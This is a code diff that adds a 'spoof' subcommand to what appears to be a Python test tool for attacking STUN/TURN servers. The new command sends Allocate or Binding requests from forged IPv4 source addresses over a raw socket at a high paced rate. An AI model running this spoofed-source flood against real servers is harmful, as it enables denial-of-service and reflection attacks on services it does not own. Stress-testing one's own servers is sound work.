@@ -5,7 +5,8 @@ Standard library only. Messages are lists of attributes in any order;
 the pseudo attributes MI and FP compute MESSAGE-INTEGRITY (long-term
 key from a TURN REST credential) and FINGERPRINT over what precedes
 them, wherever they are put, so anything may follow them. Sends over
-UDP or TCP, whole, cut short or trickled.
+UDP or TCP, whole, cut short or trickled; or, for spoof, over a raw
+socket from forged IPv4 sources.
 
 Each subcommand runs one attack scenario and prints one line per step,
 "STEP CODE [detail]" (CODE: 0 success, an error code, or "none" for no
@@ -22,6 +23,9 @@ import subprocess
 import sys
 import time
 import zlib
+
+sys.dont_write_bytecode = True   # no __pycache__ in the source tree
+import atkraw  # noqa: E402
 
 COOKIE = 0x2112A442
 ALLOCATE, REFRESH, SEND, CREATEPERM, CHANBIND, BINDING = 3, 4, 6, 8, 9, 1
@@ -409,11 +413,32 @@ def cmd_conns(a):
     for c in socks:
         c.close()
 
+def cmd_spoof(a):
+    """Allocates or Bindings over a raw socket from forged sources
+    toward the UDP listener, paced at --rate for --duration (atkraw.py
+    bounds both); nothing is read back"""
+    srcs, nips = atkraw.sources(a.src or "203.0.113.21-254,"
+                                "198.51.100.21-254,192.0.2.21-254", a.count)
+    host, port = a.server.rsplit(":", 1)
+    dst = (host, int(port))
+    if a.kind == "binding":
+        msg = [build(BINDING, []) for _ in srcs]
+    else:
+        msg = [build(ALLOCATE, [(REQTRANSPORT, b"\x11\0\0\0")])
+               for _ in srcs]
+    pkts = [atkraw.udp(sa, dst, m) for sa, m in zip(srcs, msg)]
+    sent, failed, el = atkraw.flood(dst, lambda i: pkts[i % len(pkts)],
+                                    a.rate, a.duration)
+    step("spoof", sent, "%s from %d sources on %d addresses in %.2f s "
+         "(%.0f/s), %d not sent" % (a.kind, len(srcs), nips, el, sent / el,
+                                    failed))
+
 
 def main():
     ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
     ap.add_argument("cmd", choices=["aftermi", "dupattr", "fmt", "evenport",
-                                    "peers", "bigmsg", "trickle", "conns"])
+                                    "peers", "bigmsg", "trickle", "conns",
+                                    "spoof"])
     ap.add_argument("--server", required=True, help="IP:PORT")
     ap.add_argument("--secret", default="")
     ap.add_argument("--user", default="atk")
@@ -431,6 +456,10 @@ def main():
     ap.add_argument("--hold", type=float, default=0)
     ap.add_argument("--interval", type=float, default=0.5)
     ap.add_argument("--max", type=float, default=10)
+    ap.add_argument("--kind", choices=["allocate", "binding"],
+                    default="allocate")
+    ap.add_argument("--rate", type=int, default=10000)
+    ap.add_argument("--duration", type=float, default=4)
     a = ap.parse_args()
     globals()["cmd_" + a.cmd](a)
 
